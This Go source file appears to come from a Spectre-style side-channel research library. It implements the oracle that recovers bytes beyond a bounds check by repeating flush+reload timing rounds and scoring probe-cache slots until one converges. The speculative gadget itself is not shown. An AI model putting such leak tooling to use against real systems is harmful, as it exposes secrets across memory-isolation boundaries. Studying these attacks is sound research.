package oracle

import (
	"errors"
	"fmt"
	"unsafe"

	"github.com/kolkov/specleak/internal/cpu"
	"github.com/kolkov/specleak/internal/probe"
)

// Channel runs one round against the byte at offset and records the reload
// latency of every probe slot in times.
//
// The hardware channel trains and triggers the speculative access before it
// measures. Test channels synthesize timings directly.
type Channel interface {
	Round(offset uintptr, times *Timings)
}

// Target is the memory the victim reads through.
type Target struct {
	// Base is the start of the readable region. base[0] must be readable.
	Base unsafe.Pointer

	// Bound is the victim's size limit: indices below it pass the bounds
	// check architecturally. Must be at least 1.
	Bound uintptr
}

// Result is the outcome of recovering one byte.
type Result struct {
	// Value is the recovered byte, the highest-scoring slot.
	Value byte

	// Score is the final score of Value.
	Score int

	// RunnerUp is the second-highest-scoring slot.
	RunnerUp byte

	// RunnerUpScore is the final score of RunnerUp.
	RunnerUpScore int

	// Rounds is the number of rounds run, between 1 and MaxRounds.
	Rounds int

	// LowConfidence is set when MaxRounds passed without convergence.
	LowConfidence bool
}

// Oracle recovers bytes one at a time through a Channel.
type Oracle struct {
	channel Channel
	known   byte
	cfg     Config
}

// NewOracle builds an oracle over the hardware speculation channel, using
// the process-wide probe array.
//
// Fails when cfg is invalid, when target has no legitimate index, or when
// the platform has no flush+reload primitives.
func NewOracle(target Target, cfg Config) (*Oracle, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	if !cpu.Supported {
		return nil, fmt.Errorf("oracle: %w", cpu.ErrUnsupported)
	}
	if target.Base == nil {
		return nil, errors.New("oracle: target base is nil")
	}
	if target.Bound < 1 {
		return nil, errors.New("oracle: target bound must admit index 0")
	}

	ch := newSpeculative(target, probe.Shared(), cfg)
	return &Oracle{
		channel: ch,
		known:   *(*byte)(target.Base),
		cfg:     cfg,
	}, nil
}

// NewOracleWithChannel builds an oracle over an arbitrary channel.
// known is the value of the legitimately readable byte, whose slot is never
// scored.
func NewOracleWithChannel(ch Channel, known byte, cfg Config) (*Oracle, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	if ch == nil {
		return nil, errors.New("oracle: nil channel")
	}
	return &Oracle{channel: ch, known: known, cfg: cfg}, nil
}

// Known returns the value of the legitimately readable byte.
func (o *Oracle) Known() byte {
	return o.known
}

// Config returns the oracle's tuning.
func (o *Oracle) Config() Config {
	return o.cfg
}

// LeakByte recovers the byte at offset from the target base.
//
// Each call starts from an empty score vector. It always returns a
// candidate; LowConfidence marks one chosen because the round budget ran
// out.
func (o *Oracle) LeakByte(offset uintptr) Result {
	var (
		scores Scores
		times  Timings
		top    TopTwo
	)

	for round := 1; round <= o.cfg.MaxRounds; round++ {
		o.channel.Round(offset, &times)
		ScoreRound(&times, &scores, o.known)

		top = scores.TopExcluding(o.known)
		if top.Converged(o.cfg.ConvergenceMargin) {
			return newResult(top, round, false)
		}
	}

	return newResult(top, o.cfg.MaxRounds, true)
}

func newResult(top TopTwo, rounds int, low bool) Result {
	return Result{
		Value:         top.Best,
		Score:         top.BestScore,
		RunnerUp:      top.Second,
		RunnerUpScore: top.SecondScore,
		Rounds:        rounds,
		LowConfidence: low,
	}
}
